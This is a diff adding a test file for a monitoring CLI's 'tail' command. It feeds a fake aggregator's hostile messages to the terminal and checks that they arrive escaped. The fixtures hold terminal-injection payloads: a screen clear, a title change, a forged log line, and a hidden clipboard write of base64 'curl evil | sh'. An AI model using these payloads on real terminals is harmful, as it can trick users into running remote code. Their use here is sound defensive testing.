@@ -1,0 +1,126 @@
+// `nodewarden tail` as a real process against a loopback aggregator that speaks the real protocol (and
+// sends hostile text): what reaches the terminal, what it says when it cannot connect or loses the link.
+import t from 'tap';
+import { spawn } from 'node:child_process';
+import http from 'node:http';
+import { WebSocketServer, type WebSocket } from 'ws';
+import { formatStatus, StatusLine } from '../../cli/status.js';
+import { unreachableHint } from '../../cli/tail.js';
+import { painter } from '../../cli/format.js';
+import { finding } from '../helpers/findings.js';
+import { BIN, freePort, runAsync, until } from '../helpers/processes.js';
+
+const TOKEN = 'tail-token-0123456789abcdef';
+// Every byte a terminal acts on, except the newline that ends each line.
+// eslint-disable-next-line no-control-regex
+const CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/;
+
+const HOSTILE = [
+  finding('evil\u009b2J', 'disk.usage', '/\x1b]0;all good\x07', 'critical', { message: 'clear\x1b[2J\x1b[H clipboard\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07 done\n12:00:00  node-1  RESOLVED  disk.usage  /  all good' }),
+  finding('n2', 'sockstat.orphans', 'tcp', 'warning', { message: 'csi \u009b31m red and a title \u009d0;pwned\u009c' }),
+];
+
+async function fakeAggregator(port: number) {
+  const wss = new WebSocketServer({ noServer: true });
+  const sockets = new Set<WebSocket>();
+  const server = http.createServer((req, res) => {
+    if (req.url === '/api/nodes') return void res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify([{ node: 'evil', connected: true }, { node: 'n2', connected: false }]));
+    res.writeHead(404).end();
+  });
+  server.on('upgrade', (req, socket, head) => {
+    if (req.headers.authorization !== `Bearer ${TOKEN}`) return void socket.end('HTTP/1.1 401 Unauthorized\r\ncontent-length: 0\r\n\r\n');
+    wss.handleUpgrade(req, socket, head, (ws) => {
+      sockets.add(ws);
+      ws.on('message', () => ws.send(JSON.stringify({ v: 1, type: 'active', findings: HOSTILE })));
+    });
+  });
+  await new Promise<void>((r) => server.listen(port, '127.0.0.1', () => r()));
+  return {
+    dropAll: () => {
+      for (const ws of sockets) ws.terminate();
+      sockets.clear();
+    },
+    close: () => {
+      for (const ws of sockets) ws.terminate();
+      return new Promise<void>((r) => server.close(() => r()));
+    },
+  };
+}
+
+t.test('hostile text from the aggregator reaches the terminal escaped: no screen clear, fake line, title or clipboard write', async (t) => {
+  const port = await freePort();
+  const agg = await fakeAggregator(port);
+  t.teardown(() => agg.close());
+  const env = { NODEWARDEN_AGGREGATOR: `ws://127.0.0.1:${port}`, NODEWARDEN_TOKEN: TOKEN };
+  const human = await runAsync(['tail', '--no-follow'], env);
+  t.equal(human.code, 2, human.stderr);
+  t.notMatch(human.stdout, CONTROL, 'no control character on stdout');
+  t.match(human.stdout, /clear\\x1b\[2J/, 'the escape sequence is shown as text');
+  t.match(human.stdout, /\\x9b2J/, 'U+009B shown, not obeyed');
+  t.equal(human.stdout.split('\n').filter((l) => /RESOLVED/.test(l)).length, 1, 'the fake RESOLVED line stays inside the real one');
+  t.match(human.stdout, /2 active findings on 2 nodes: 1 critical, 1 warning, 0 info/, 'a summary when the stream starts');
+  const json = await runAsync(['tail', '--no-follow', '--json'], env);
+  t.equal(json.code, 2);
+  t.notMatch(json.stdout, CONTROL, '--json: no C1 either');
+  const lines = json.stdout.trim().split('\n').map((l) => JSON.parse(l) as { finding: { message: string } });
+  t.equal(lines[1]!.finding.message, HOSTILE[1]!.message, 'and the JSON still carries the exact text');
+});
+
+t.test('never connected: "cannot reach ... start one"; after a link existed: "lost ... reconnecting"', async (t) => {
+  const port = await freePort();
+  const env = { NODEWARDEN_AGGREGATOR: `ws://127.0.0.1:${port}`, NODEWARDEN_TOKEN: TOKEN };
+  const never = await runAsync(['tail', '--no-follow'], env);
+  t.equal(never.code, 3);
+  t.equal(never.stderr.trim(), `nodewarden: cannot reach the aggregator at ws://127.0.0.1:${port} (connection refused): start one with \`nodewarden aggregator\` or run \`nodewarden up\``, 'said once, with what to do');
+  t.notMatch(never.stderr, /lost/);
+
+  // Following, started before any aggregator exists: the same hint, then it connects when one starts.
+  const tail = spawn(process.execPath, [BIN, 'tail'], { env: { ...process.env, ...env }, stdio: ['ignore', 'pipe', 'pipe'] });
+  let out = '';
+  let err = '';
+  tail.stdout.on('data', (d: Buffer) => (out += d.toString()));
+  tail.stderr.on('data', (d: Buffer) => (err += d.toString()));
+  t.teardown(() => tail.kill('SIGKILL'));
+  await until(() => /cannot reach the aggregator/.test(err), 10_000, 'the hint');
+  const agg = await fakeAggregator(port);
+  t.teardown(() => agg.close());
+  await until(() => /2 active findings/.test(out), 20_000, 'the tail to connect once the aggregator is there');
+  t.match(err, /connected to ws:\/\/127\.0\.0\.1/, 'and says it connected');
+  await until(() => /nodes connected/.test(out), 10_000, 'the status line');
+  t.match(out, /\d\d:\d\d:\d\d {2}1 critical · 1 warning · 0 info {2}· {2}1 of 2 nodes connected\n/, 'the status line, in a pipe a whole line');
+  agg.dropAll();
+  await until(() => /lost the aggregator/.test(err), 10_000, 'the tail to notice');
+  t.match(err, /lost the aggregator at ws:\/\/127\.0\.0\.1:\d+ \(closed 1006\); reconnecting/);
+  await until(() => /reconnected/.test(err), 20_000, 'the tail to reconnect');
+  t.equal((err.match(/cannot reach/g) ?? []).length, 1, '"cannot reach" only before the first link');
+});
+
+t.test('the status line: in place on a terminal, at most every few minutes in a pipe', async (t) => {
+  const p = painter(false);
+  const text = formatStatus({ critical: 2, warning: 1, info: 0, nodes: { connected: 4, total: 5 } }, p, new Date('2026-01-01T12:00:05Z'));
+  t.equal(text, '12:00:05  2 critical · 1 warning · 0 info  ·  4 of 5 nodes connected');
+  t.match(formatStatus({ critical: 0, warning: 0, info: 0 }, p, new Date()), /all quiet/, 'a healthy cluster says so');
+  let tty = '';
+  const onTty = new StatusLine({ tty: true, write: (s) => (tty += s) });
+  onTty.show('status 1');
+  onTty.line('a finding');
+  onTty.show('status 2');
+  t.equal(tty, '\r\x1b[2Kstatus 1\r\x1b[2Ka finding\nstatus 1\r\x1b[2Kstatus 2', 'rewritten in place, lines scroll above it');
+  let pipe = '';
+  let now = 0;
+  const inPipe = new StatusLine({ tty: false, write: (s) => (pipe += s), pipeEveryMs: 300_000, now: () => now });
+  inPipe.show('s1');
+  now = 60_000;
+  inPipe.show('s2');
+  now = 300_000;
+  inPipe.show('s3');
+  t.equal(pipe, 's1\ns3\n', 'in a pipe: whole lines, at most one per five minutes');
+});
+
+t.test('what a tail that never got a stream says depends on why', async (t) => {
+  const url = 'ws://agg:9743';
+  t.match(unreachableHint(url, { kind: 'refused', text: 'connection refused' }), /start one with `nodewarden aggregator` or run `nodewarden up`/);
+  t.match(unreachableHint(url, { kind: 'tls', text: 'TLS: self-signed certificate' }), /NODE_EXTRA_CA_CERTS/);
+  t.match(unreachableHint(url, { kind: 'closed', text: 'closed 1009 Max payload size exceeded' }), /accepted the connection, then the stream ended \(closed 1009 Max payload size exceeded\)/, 'not "start one" when one is there');
+  t.notMatch(unreachableHint(url, { kind: 'closed', text: 'closed 1009' }), /start one/);
+});
